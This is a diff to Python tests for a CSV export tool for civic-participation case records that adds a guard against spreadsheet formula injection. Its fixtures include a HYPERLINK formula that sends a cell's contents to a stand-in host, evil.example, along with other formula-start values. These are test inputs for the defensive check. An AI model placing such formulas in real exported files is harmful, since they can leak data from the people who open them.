@@ -26,6 +26,10 @@ TEXTS = [
     "First line\r\nsecond line after CRLF, and a lone\rcarriage return.",
     "  Leading and trailing spaces  ",
     "Commas, commas; semicolons; and a tab\there.",
+    # what a spreadsheet runs as a formula, from a stranger's pull request, and the apostrophe that guards it
+    '=HYPERLINK("http://evil.example/?q="&A1, "Read more")',
+    "- a description that starts with a dash",
+    "'Quoted' at the start, as the guard's own mark.",
 ]
 
 
@@ -130,13 +134,16 @@ def expected_cell(column, case: dict) -> str:
     value = at(case, "/" + "/".join(column.keys))
     if value is None:
         return ""
-    if column.parent is not None and column.parent.children:
-        return ";".join(str(item.get(column.field.name, "")) for item in value)
-    if isinstance(value, list):
-        return ";".join(value)
+    if column.kind == "joined" and column.parent is not None and column.parent.children:
+        value = ";".join(str(item.get(column.field.name, "")) for item in value)
+    elif isinstance(value, list):
+        value = ";".join(value)
     if isinstance(value, bool):
         return "1" if value else "0"
-    return str(value)
+    text = str(value)
+    if column.field.type != "integer" and text[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
+        return "'" + text  # the guard against formulas, in a text column
+    return text
 
 
 def test_csv_cells_hold_the_case_values_and_survive_the_csv_module():
@@ -194,10 +201,13 @@ def test_csv_round_trips_through_pandas(tmp_path):
 
 
 def read_like_the_readme(pd, folder: Path):
-    """The pandas recipe in README.md ("For researchers")."""
+    """The pandas recipe in docs/researchers.md."""
     fields = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"][0]["schema"]["fields"]
     dtypes = {f["name"]: "Int64" if f["type"] in ("integer", "boolean") else "string" for f in fields}
-    return pd.read_csv(folder / "cases.csv", dtype=dtypes, keep_default_na=False, na_values=[""])
+    cases = pd.read_csv(folder / "cases.csv", dtype=dtypes, keep_default_na=False, na_values=[""])
+    text = [f["name"] for f in fields if f["type"] == "string"]
+    cases[text] = cases[text].apply(lambda column: column.str.removeprefix("'"))
+    return cases
 
 
 def test_pandas_dtypes(tmp_path):
@@ -216,6 +226,79 @@ def test_pandas_dtypes(tmp_path):
         assert pd.api.types.is_numeric_dtype(plain[column.name]) == numeric, column.name
         assert str(typed[column.name].dtype) == ("Int64" if numeric else "string"), column.name
     assert set(typed["co_governance"].dropna()) <= {0, 1}
+
+
+# Formulas ------------------------------------------------------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example", "x")',
+    "name_original": "'Consejo' de Lima",
+    "description": "+55 11 5555 5555 is the number of the council; it meets every month in the town hall.",
+    "notes": "@SUM(A1:A9)",
+}
+
+
+def formula_case() -> dict:
+    case = generate(1)[0]
+    case.update(FORMULAS, latinno_id=7, start_year=2001, end_year=2003)
+    case.pop("ends", None)  # undetermined, below
+    case["undetermined"] = {"ends": "\tthe sources do not say"}
+    case["sources"] = [{"url": "https://example.org/a", "title": "-1 point of view"}, {"url": "https://example.org/b", "title": "=1+1"}]
+    return case
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe_and_nothing_else_does():
+    case = formula_case()
+    (row,) = rows(export.to_csv([("=p.yaml", case)]))  # read back by the csv module
+    assert {k: row[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert row["undetermined_ends"] == "'\tthe sources do not say"
+    assert row["sources_title"] == "'-1 point of view;=1+1"  # one mark, at the start of the cell: the items keep theirs
+    assert row["path"] == "'=p.yaml"
+    assert (row["latinno_id"], row["start_year"], row["country"]) == ("7", "2001", case["country"])  # numbers and codes as they are
+    for column in export.columns():
+        assert not row[column.name].startswith(export.FORMULA_STARTS), column.name
+        assert column.kind == "path" or row[column.name] == expected_cell(column, case), column.name
+
+
+@pytest.mark.parametrize("text", ["", "plain", "'", "''", "'=", "=", "+", "-", "@", "\t", "\r", "\r\n=x", " =x", "a=b", "-5"])
+def test_the_guard_is_undone_exactly(text):
+    shown = export.guarded(text)
+    assert export.unguarded(shown) == text
+    assert not shown.startswith(export.FORMULA_STARTS)
+    assert shown == text or shown == "'" + text
+
+
+def test_numbers_are_never_guarded_even_negative_ones():
+    # no integer column of the schema can be negative, and an out-of-range value is not written; the
+    # guard goes by the column, so a number is never touched whatever it holds
+    numbers = [c for c in export.columns() if not c.text]
+    assert {c.name for c in numbers} >= {"latinno_id", "start_year", "end_year", "means_deliberation"}
+    assert all(c.kind == "indicator" or c.field.type == "integer" for c in numbers)
+    column = next(c for c in numbers if c.name == "start_year")
+    assert export.csv_cell(column, {"start_year": 1999}, "p") == "1999"
+    assert [dict(c.field.constraints).get("minimum", -1) >= 0 for c in numbers if c.kind == "value"] == [True, True, True]
+
+
+def test_the_guarded_csv_reads_back_exactly_in_pandas_and_frictionless(tmp_path, capsys):
+    pd = pytest.importorskip("pandas")
+    frictionless = pytest.importorskip("frictionless")
+    tree = write_cases(tmp_path, [formula_case()])
+    out = tmp_path / "out" / "cases.csv"
+    out.parent.mkdir()
+    code, _, err = run(["export", str(tree), "-o", str(out), "--datapackage"], capsys)
+    assert code == 0, err
+    frame = read_like_the_readme(pd, out.parent)  # the recipe, with its line that takes the guard off
+    assert {k: frame[k][0] for k in FORMULAS} == FORMULAS
+    assert frame["sources_title"][0] == "-1 point of view;=1+1" and frame["undetermined_ends"][0] == "\tthe sources do not say"
+    assert frame["latinno_id"][0] == 7
+    descriptor = json.loads((out.parent / "datapackage.json").read_text(encoding="utf-8"))
+    assert "starts with =, +, -, @, a tab, a carriage return or '" in descriptor["resources"][0]["description"]
+    assert frictionless.validate(out.parent / "datapackage.json").valid, written_against("frictionless", "5.21.0")
+
+
+def test_json_lines_are_not_guarded():
+    case = formula_case()
+    assert json.loads(export.to_jsonl([("p", case)]))["name"] == FORMULAS["name"]
 
 
 # JSON ----------------------------------------------------------------------------
